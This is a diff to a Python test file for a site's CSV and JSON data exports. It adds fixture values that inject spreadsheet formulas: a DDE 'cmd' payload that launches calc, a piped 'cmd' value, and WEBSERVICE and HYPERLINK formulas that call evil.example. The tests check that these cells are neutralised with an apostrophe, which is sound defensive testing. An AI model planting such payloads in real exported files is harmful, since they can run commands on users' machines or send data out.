@@ -24,8 +24,11 @@ HOSTILE = {
     "source_url": "-2+3+cmd|' /C calc'!A0",
     "contact_name": "@SUM(A1:A9)",
     "contact_organisation": "\t=1+1",
-    "contact_email": "=cmd@evil.example",
+    "outcome": '=WEBSERVICE("https://evil.example")',
+    "target_group": "-1+1|cmd",
 }
+# Never exported at all (the contact form stands for it), hostile or not.
+CONTACT_EMAIL = "=cmd@evil.example"
 HOSTILE_CITY = '\r=HYPERLINK("https://evil.example")'
 
 
@@ -35,7 +38,14 @@ def hostile_practice(site_structure):
     city = get_or_create_city(HOSTILE_CITY, "KR")
     fields = {**HOSTILE}
     source_url = fields.pop("source_url")
-    practice = add_practice(index, slug="hostile", city=city, kind="countermeasure", **fields)
+    practice = add_practice(
+        index,
+        slug="hostile",
+        city=city,
+        kind="countermeasure",
+        contact_email=CONTACT_EMAIL,
+        **fields,
+    )
     # The page's own validation refuses such a URL; data written another way (the shell, a
     # migration) still reaches the export.
     PracticePage.objects.filter(pk=practice.pk).update(source_url=source_url)
@@ -84,6 +94,7 @@ def test_csv_cells_that_would_start_a_formula_begin_with_an_apostrophe(client, h
         for field, value in HOSTILE.items():
             assert row[field] == "'" + value, (source, field)
         assert row["city"] == "'" + HOSTILE_CITY, source
+        assert CONTACT_EMAIL not in text, source
         # No cell of the file starts a formula.
         for cells in csv.reader(io.StringIO(text)):
             assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"} for cell in cells)
@@ -109,11 +120,15 @@ def test_json_lines_keep_the_exact_text(client, hostile_practice):
         assert record["summary"] == HOSTILE["summary"], source
         assert record["source_url"] == HOSTILE["source_url"], source
         assert record["city"] == HOSTILE_CITY, source
+        assert (record["outcome"], record["target_group"]) == (
+            HOSTILE["outcome"],
+            HOSTILE["target_group"],
+        ), source
         assert record["contact"] == {
             "name": HOSTILE["contact_name"],
             "organisation": HOSTILE["contact_organisation"],
-            "email": HOSTILE["contact_email"],
         }, source
+        assert CONTACT_EMAIL not in text, source
 
 
 def test_the_download_page_tells_data_users_about_the_apostrophe(client, site_structure):
